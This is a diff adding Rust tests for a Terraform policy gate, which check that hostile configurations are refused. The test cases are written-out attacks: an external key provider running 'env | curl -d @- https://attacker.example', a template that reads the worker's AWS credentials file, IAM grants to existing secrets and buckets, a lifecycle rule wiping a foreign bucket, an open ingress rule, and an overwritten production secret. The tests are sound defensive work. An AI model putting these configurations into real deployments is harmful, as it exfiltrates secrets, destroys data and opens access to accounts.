@@ -1328,3 +1328,312 @@ resource "aws_security_group" "ssh_internal" {
         &vm_policy(),
     );
 }
+
+/// Checks `files` (name and text) together with the base configuration.
+fn check_files(files: &[(&str, &str)], policy: &Policy) -> PolicyReport {
+    let mut all = BTreeMap::from([("main.tf".to_owned(), BASE.to_owned())]);
+    for (name, text) in files {
+        all.insert((*name).to_owned(), (*text).to_owned());
+    }
+    check(&all, policy)
+}
+
+/// Attacks that read the configuration as Terraform does and the gate once
+/// did not: IAM resources that name what the deployment did not create,
+/// references laundered through attributes that echo the author's text,
+/// arguments that copy or overwrite the account's data, functions and
+/// settings that run on the worker, module arguments the gate never saw.
+#[test]
+fn a_hostile_author_is_refused_where_terraform_reads_further_than_the_gate_did() {
+    let vm = vm_policy();
+    let containers = Policy::for_choice(&choice(Target::ContainerService));
+    let serverless = Policy::for_choice(&choice(Target::Serverless));
+    let cases: Vec<(&str, &str, &[Rule], &Policy)> = vec![
+        (
+            "an object of an existing bucket, named by a literal ARN",
+            r#"resource "aws_iam_role_policy" "loot" {
+  role   = aws_iam_role.app.id
+  policy = jsonencode({
+    Statement = [{ Effect = "Allow", Action = "s3:GetObject", Resource = "arn:aws:s3:::company-backups/db.sql" }]
+  })
+}"#,
+            &[Rule::IamAction],
+            &vm,
+        ),
+        (
+            "a secret of the account, its ARN built from the caller's account id",
+            r#"data "aws_iam_policy_document" "loot" {
+  statement {
+    actions   = ["secretsmanager:GetSecretValue"]
+    resources = ["arn:${data.aws_partition.current.partition}:secretsmanager:ca-central-1:${data.aws_caller_identity.current.account_id}:secret:prod/db-AbCdEf"]
+  }
+}"#,
+            &[Rule::IamAction],
+            &vm,
+        ),
+        (
+            "every deployment's parameters, by a wildcard after two segments",
+            r#"data "aws_iam_policy_document" "loot" {
+  statement {
+    actions   = ["ssm:GetParametersByPath", "ssm:GetParameters"]
+    resources = ["arn:aws:ssm:ca-central-1:${data.aws_caller_identity.current.account_id}:parameter/deployflow/*"]
+  }
+}"#,
+            &[Rule::IamAction],
+            &vm,
+        ),
+        (
+            "a policy resource read from a tag of the configuration's own role",
+            r#"resource "aws_iam_role" "app" {
+  name_prefix        = "app-"
+  assume_role_policy = data.aws_iam_policy_document.trust.json
+  tags               = { Target = "*" }
+}
+
+resource "aws_iam_role_policy" "loot" {
+  role   = aws_iam_role.app.id
+  policy = jsonencode({
+    Statement = [{ Effect = "Allow", Action = "secretsmanager:GetSecretValue", Resource = aws_iam_role.app.tags.Target }]
+  })
+}"#,
+            &[Rule::IamAction],
+            &vm,
+        ),
+        (
+            "a wildcard glued to the configuration's own bucket ARN",
+            r#"resource "aws_s3_bucket" "bundle" {
+  bucket = "company-b"
+}
+
+data "aws_iam_policy_document" "loot" {
+  statement {
+    actions   = ["s3:GetObject"]
+    resources = ["${aws_s3_bucket.bundle.arn}*"]
+  }
+}"#,
+            &[Rule::IamAction],
+            &vm,
+        ),
+        (
+            "an existing bucket named through a log group of the configuration",
+            r#"resource "aws_cloudwatch_log_group" "decoy" {
+  name = "company-backups"
+}
+
+resource "aws_s3_bucket_lifecycle_configuration" "wipe" {
+  bucket = aws_cloudwatch_log_group.decoy.name
+  rule {
+    id     = "wipe"
+    status = "Enabled"
+    filter {}
+    expiration {
+      days = 1
+    }
+  }
+}"#,
+            &[Rule::ForeignResource],
+            &vm,
+        ),
+        (
+            "an existing security group id assembled by a function and echoed by a parameter",
+            r#"resource "aws_ssm_parameter" "decoy" {
+  name  = "/decoy"
+  type  = "String"
+  value = join("", ["sg-", "0123456789abcdef0"])
+}
+
+resource "aws_vpc_security_group_ingress_rule" "backdoor" {
+  security_group_id = aws_ssm_parameter.decoy.value
+  ip_protocol       = "tcp"
+  from_port         = 8080
+  to_port           = 8080
+  cidr_ipv4         = "0.0.0.0/0"
+}"#,
+            &[Rule::ForeignResource],
+            &vm,
+        ),
+        (
+            "an existing bucket named through the bucket_prefix of an own bucket",
+            r#"resource "aws_s3_bucket" "decoy" {
+  bucket_prefix = "company-backups"
+}
+
+resource "aws_s3_bucket_versioning" "off" {
+  bucket = aws_s3_bucket.decoy.bucket_prefix
+  versioning_configuration {
+    status = "Suspended"
+  }
+}"#,
+            &[Rule::ForeignResource],
+            &vm,
+        ),
+        (
+            "a new value written into an existing secret",
+            r#"resource "aws_secretsmanager_secret_version" "overwrite" {
+  secret_id                = "prod/db"
+  secret_string_wo         = "attacker"
+  secret_string_wo_version = 1
+}"#,
+            &[Rule::ForeignResource],
+            &containers,
+        ),
+        (
+            "the database restored from a production snapshot, or replicating it",
+            r#"resource "aws_db_instance" "copy" {
+  identifier_prefix   = "app-"
+  engine              = "postgres"
+  instance_class      = "db.t4g.micro"
+  allocated_storage   = 20
+  publicly_accessible = false
+  storage_encrypted   = true
+  snapshot_identifier = "prod-db-final"
+}
+
+resource "aws_db_instance" "replica" {
+  identifier_prefix   = "replica-"
+  instance_class      = "db.t4g.micro"
+  publicly_accessible = false
+  storage_encrypted   = true
+  replicate_source_db = "prod-db"
+}"#,
+            &[Rule::ForeignResource],
+            &containers,
+        ),
+        (
+            "templatestring renders an escaped file() call",
+            r#"locals {
+  template = "$${file(\"/home/deployflow/.aws/credentials\")}"
+}
+
+output "loot" {
+  value = templatestring(local.template, {})
+}"#,
+            &[Rule::LocalFile],
+            &vm,
+        ),
+        (
+            "a module called five hundred times",
+            r#"module "fleet" {
+  source = "./modules/web"
+  count  = 500
+}
+
+module "more" {
+  source   = "./modules/web"
+  for_each = toset([for i in range(500) : tostring(i)])
+}"#,
+            &[Rule::SizeNotBounded],
+            &vm,
+        ),
+        (
+            "OpenTofu state encryption with an external key provider",
+            r#"terraform {
+  encryption {
+    key_provider "external" "keys" {
+      command = ["sh", "-c", "env | curl -d @- https://attacker.example"]
+    }
+  }
+}"#,
+            &[Rule::BlockNotAllowed],
+            &vm,
+        ),
+        (
+            "a secret's resource policy open to everyone",
+            r#"resource "aws_secretsmanager_secret" "env" {
+  name_prefix = "app-"
+  policy = jsonencode({
+    Statement = [{ Effect = "Allow", Principal = "*", Action = "secretsmanager:GetSecretValue", Resource = "*" }]
+  })
+}"#,
+            &[Rule::IamPrincipal, Rule::IamAction],
+            &containers,
+        ),
+        (
+            "the function's code and settings readable by anyone and another account",
+            r#"resource "aws_lambda_permission" "read" {
+  statement_id  = "Read"
+  action        = "lambda:GetFunction"
+  function_name = aws_lambda_function.app.function_name
+  principal     = "*"
+}
+
+resource "aws_lambda_permission" "other" {
+  statement_id  = "Other"
+  action        = "lambda:InvokeFunction"
+  function_name = aws_lambda_function.app.function_name
+  principal     = "111122223333"
+}"#,
+            &[Rule::IamAction, Rule::IamPrincipal],
+            &serverless,
+        ),
+        (
+            "policy elements in lower case, read by nothing in the gate",
+            r#"resource "aws_iam_role_policy" "lower" {
+  role   = aws_iam_role.app.id
+  policy = <<-EOT
+    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "action": "iam:*", "resource": "*"}]}
+  EOT
+}"#,
+            &[Rule::IamAction],
+            &vm,
+        ),
+    ];
+    let mut passed = Vec::new();
+    for (name, extra, rules, policy) in cases {
+        let report = check_with(extra, policy);
+        if report.passed {
+            passed.push(name);
+            continue;
+        }
+        assert_eq!(
+            report.rules(),
+            rules.iter().copied().collect::<BTreeSet<_>>(),
+            "case {name:?}:\n{extra}\n{:#?}",
+            report.violations
+        );
+    }
+    assert!(passed.is_empty(), "passed the gate: {passed:#?}");
+}
+
+/// A module's variables take the values its caller passes, not their
+/// defaults: the gate must not read a module's policy through defaults.
+#[test]
+fn a_module_argument_is_not_read_as_the_variable_default() {
+    let policy = vm_policy();
+    let report = check_files(
+        &[
+            (
+                "extra.tf",
+                r#"module "web" {
+  source  = "./modules/web"
+  actions = ["iam:*"]
+}"#,
+            ),
+            (
+                "modules/web/main.tf",
+                r#"variable "actions" {
+  default = ["s3:GetObject"]
+}
+
+resource "aws_iam_role" "app" {
+  name_prefix        = "app-"
+  assume_role_policy = data.aws_iam_policy_document.trust.json
+}
+
+data "aws_iam_policy_document" "app" {
+  statement {
+    actions   = var.actions
+    resources = ["${aws_iam_role.app.arn}"]
+  }
+}"#,
+            ),
+        ],
+        &policy,
+    );
+    assert_eq!(
+        report.rules(),
+        BTreeSet::from([Rule::IamAction]),
+        "{:#?}",
+        report.violations
+    );
+}
